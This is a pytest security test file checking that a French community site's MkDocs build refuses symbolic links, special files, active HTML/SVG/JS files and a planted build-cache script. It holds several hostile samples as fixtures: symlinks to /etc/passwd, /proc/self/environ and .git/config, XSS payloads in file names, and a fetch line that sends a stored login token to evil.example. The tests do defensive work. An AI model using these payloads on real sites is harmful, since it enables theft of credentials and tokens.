# SPDX-FileCopyrightText: 2026 Contributeurs et contributrices du site des communs
# SPDX-License-Identifier: EUPL-1.2
"""A pull request that adds a link in docs/ publishes nothing from outside the repository.

(Nor a file whose name is HTML: MkDocs prints names as titles, unescaped.)

Every symbolic link is refused, whatever it points to (README, « Sécurité »):
files of the machine, the checkout's `.git/config` (where CI keeps its token),
the build's own environment, a folder, or another page of docs/. So are hard
links and special files. The build stops before MkDocs lists the files, with
a French message naming each one, in a preview as in a strict build.
"""

from __future__ import annotations

import io
import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
from PIL import Image

from tests.security.conftest import ROOT, commit_all, make_attack_site, no_traceback
from tests.site.sitebuilder import Site

CANARY = "CANARI-hors-du-depot-7f3a"


def _outside(site: Site) -> Path:
    secret = site.root.parent / "secret.txt"
    secret.write_text(CANARY + "\n", encoding="utf-8")
    return secret


ATTACKS: dict[str, tuple[str, Callable[[Site], None]]] = {
    "etc-passwd": ("docs/passwd.md", lambda s: os.symlink("/etc/passwd", s.docs / "passwd.md")),
    "proc-environ": ("docs/environ.txt", lambda s: os.symlink("/proc/self/environ", s.docs / "environ.txt")),
    "git-config": ("docs/config.md", lambda s: os.symlink("../.git/config", s.docs / "config.md")),
    "outside-file": ("docs/image.png", lambda s: os.symlink(_outside(s), s.docs / "image.png")),
    "outside-folder": ("docs/dossier", lambda s: os.symlink(_outside(s).parent, s.docs / "dossier")),
    "root-folder": ("docs/racine", lambda s: os.symlink("/", s.docs / "racine")),
    "inside-docs": ("docs/copie.md", lambda s: os.symlink("index.md", s.docs / "copie.md")),
    "dangling": ("docs/absente.md", lambda s: os.symlink("nulle-part.md", s.docs / "absente.md")),
    "hidden": ("docs/.cache", lambda s: os.symlink("/", s.docs / ".cache")),
    "nested": (
        "docs/kit-accueil/passwd.md",
        lambda s: ((s.docs / "kit-accueil").mkdir(), os.symlink("/etc/passwd", s.docs / "kit-accueil/passwd.md")),
    ),
    "hard-link": ("docs/lien-dur.md", lambda s: os.link(_outside(s), s.docs / "lien-dur.md")),
    "fifo": ("docs/tube.md", lambda s: os.mkfifo(s.docs / "tube.md")),
    "html-in-name": (
        'docs/x"><img src=x onerror=alert(1)>.md',
        lambda s: (s.docs / 'x"><img src=x onerror=alert(1)>.md').write_text("Texte.\n", encoding="utf-8"),
    ),
    "html-in-folder": (
        "docs/dossier<svg onload=alert(2)>",
        lambda s: (s.docs / "dossier<svg onload=alert(2)>").mkdir(),
    ),
    "newline-in-name": ("docs/a\nb.md", lambda s: (s.docs / "a\nb.md").write_text("Texte.\n", encoding="utf-8")),
    "docs-itself": ("docs", lambda s: (os.rename(s.docs, s.root / "vrai-docs"), os.symlink("vrai-docs", s.docs))),
}


@pytest.mark.parametrize("strict", [True, False], ids=["strict", "apercu"])
@pytest.mark.parametrize("name", ATTACKS)
def test_build_refuses_links_and_special_files(tmp_path: Path, name: str, strict: bool) -> None:
    site = make_attack_site(tmp_path)
    commit_all(site)
    named, plant = ATTACKS[name]
    plant(site)
    done = site.build(strict=strict)
    no_traceback(done)
    assert done.returncode == 1, done.stderr[-2000:]
    assert f"  - {named} " in done.stderr, done.stderr[-2000:]
    assert "la construction s'arrête avant de les lire ou de les publier" in done.stderr
    published = site.root / "site"
    leaked = [p for p in published.rglob("*") if p.is_file() and CANARY.encode() in p.read_bytes()]
    assert leaked == []
    assert not (published / "passwd").exists() and not (published / "config").exists()


def test_all_refused_files_are_listed_at_once(tmp_path: Path) -> None:
    site = make_attack_site(tmp_path)
    commit_all(site)
    os.symlink("/etc/passwd", site.docs / "a.md")
    os.symlink("/etc/hostname", site.docs / "b.md")
    done = site.build()
    assert done.returncode == 1
    assert "2 fichier(s) refusé(s)" in done.stderr
    assert "docs/a.md est un lien symbolique" in done.stderr and "docs/b.md est un lien symbolique" in done.stderr


def test_theme_overrides_are_checked_too(tmp_path: Path) -> None:
    site = make_attack_site(tmp_path)
    overrides = site.root / "theme"
    (overrides / "assets").mkdir(parents=True)
    os.symlink("/etc/passwd", overrides / "assets" / "passwd.txt")
    config = (site.root / "mkdocs.yml").read_text(encoding="utf-8")
    config = config.replace("custom_dir: ", f"custom_dir: {overrides}\n  # was: ", 1)
    (site.root / "mkdocs.yml").write_text(config, encoding="utf-8")
    commit_all(site)
    done = site.build()
    assert done.returncode == 1
    assert "theme/assets/passwd.txt est un lien symbolique" in done.stderr
    assert not (site.root / "site" / "assets" / "passwd.txt").exists()


def test_the_fast_content_check_reports_links_too(tmp_path: Path) -> None:
    site = make_attack_site(tmp_path)
    os.symlink("../.git/config", site.docs / "logo.png")
    os.symlink("/etc/passwd", site.docs / "page.md")
    done = subprocess.run(
        [sys.executable, "-m", "commons.check", str(site.docs)], cwd=ROOT, capture_output=True, text=True, check=False
    )
    assert done.returncode == 1, done.stdout + done.stderr
    assert "logo.png, ligne 1 : ce fichier est un lien symbolique" in done.stdout
    assert "page.md, ligne 1 : ce fichier est un lien symbolique" in done.stdout


# Files a browser runs when it opens them: published as they are, they would run with the site's rights.
ACTIVE_FILES = {
    "piege.html": "<script>alert(1)</script>",
    "images/logo.svg": '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(2)</script></svg>',
    "page.XHTML": '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(3)</script></html>',
    "flux.xml": '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(4)</x:script>',
    "outil.js": "alert(5)",
    "kit-accueil/sans-extension": "<script>alert(6)</script>",
}


@pytest.mark.parametrize("strict", [True, False], ids=["strict", "apercu"])
def test_build_refuses_files_a_browser_would_run(tmp_path: Path, strict: bool) -> None:
    site = make_attack_site(tmp_path)
    for path, text in ACTIVE_FILES.items():
        site.write(path, text)
    commit_all(site)
    done = site.build(strict=strict)
    no_traceback(done)
    assert done.returncode == 1, done.stderr[-2000:]
    assert f"{len(ACTIVE_FILES)} fichier(s) refusé(s)" in done.stderr
    for path in ACTIVE_FILES:
        assert f"  - docs/{path} est un fichier " in done.stderr, path
    assert "un fichier HTML, SVG, XML ou JavaScript ouvert dans un navigateur exécuterait son code" in done.stderr
    published = site.root / "site"
    assert not any((published / path).exists() for path in ACTIVE_FILES)


def test_images_documents_and_media_are_published(tmp_path: Path) -> None:
    site = make_attack_site(tmp_path)
    kept = ["images/photo.PNG", "images/photo.jpeg", "documents/compte-rendu.pdf", "documents/budget.ods"]
    kept += ["documents/liste.csv", "son/entretien.mp3", "CNAME"]
    for path in kept:
        site.write(path, "contenu\n")
    for path, fmt in (("images/photo.PNG", "PNG"), ("images/photo.jpeg", "JPEG")):  # real images (text is refused)
        out = io.BytesIO()
        Image.new("RGB", (8, 8), "green").save(out, fmt)
        (site.root / "docs" / path).write_bytes(out.getvalue())
    site.write(".brouillon.html", "<script>alert(7)</script>")  # never published by MkDocs: not checked
    commit_all(site)
    done = site.build()
    assert done.returncode == 0, done.stderr[-2000:]
    assert all((site.root / "site" / path).is_file() for path in kept)
    assert not (site.root / "site" / ".brouillon.html").exists()


def test_the_fast_content_check_reports_active_files_too(tmp_path: Path) -> None:
    site = make_attack_site(tmp_path)
    site.write("piege.html", "<script>alert(8)</script>")
    done = subprocess.run(
        [sys.executable, "-m", "commons.check", str(site.docs)], cwd=ROOT, capture_output=True, text=True, check=False
    )
    assert done.returncode == 1, done.stdout + done.stderr
    assert "piege.html, ligne 1 : ce fichier est un fichier « .html »" in done.stdout


def test_a_build_cache_brought_by_a_commit_is_refused(tmp_path: Path) -> None:
    """The form editor's scripts are kept in .cache/editor/ (ignored by git), checked against package.json
    when downloaded, then copied to /admin/ at every build. A pull request that force-added
    .cache/editor/decap-cms/decap-cms.js (and its .version) had its own script published where members
    log in with their forge account: the build now refuses any tracked file of .cache/, and a .cache link."""
    site = make_attack_site(tmp_path)
    planted = site.root / ".cache" / "editor" / "decap-cms"
    planted.mkdir(parents=True)
    (planted / "decap-cms.js").write_text("fetch('https://evil.example/?t=' + localStorage.getItem('decap-cms-user'))")
    (planted / ".version").write_text("decap-cms@3.16.0\n")
    site.git("add", "-f", ".cache")
    commit_all(site)
    done = site.build()
    no_traceback(done)
    assert done.returncode == 1, done.stderr[-2000:]
    assert "  - .cache/editor/decap-cms/decap-cms.js est un fichier du cache de la construction ajouté au dépôt" in (
        done.stderr
    ), done.stderr[-2000:]
    assert "git rm -r --cached .cache" in done.stderr
    assert not (site.root / "site" / "admin").exists()
    other = make_attack_site(tmp_path / "lien")
    (tmp_path / "ailleurs").mkdir()
    (other.root / ".cache").symlink_to(tmp_path / "ailleurs")
    commit_all(other)
    linked = other.build()
    assert linked.returncode == 1, linked.stderr[-2000:]
    assert "  - .cache est un lien symbolique" in linked.stderr
